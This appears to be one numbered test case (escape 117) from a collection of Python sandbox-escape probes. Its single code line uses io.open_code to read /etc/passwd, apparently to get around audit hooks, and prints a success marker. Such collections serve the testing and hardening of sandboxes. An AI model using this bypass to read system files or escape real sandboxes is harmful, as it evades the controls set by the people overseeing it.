# escape: 117
# technique: io.open_code (separate C function, PyFile_OpenCode)
# family: sidedoor
# goal: read-file
# first-seen: PEP 578; HackTricks
import io
if b'root:' in io.open_code('/etc/passwd').readline(): print('ESCAPED:open_code')
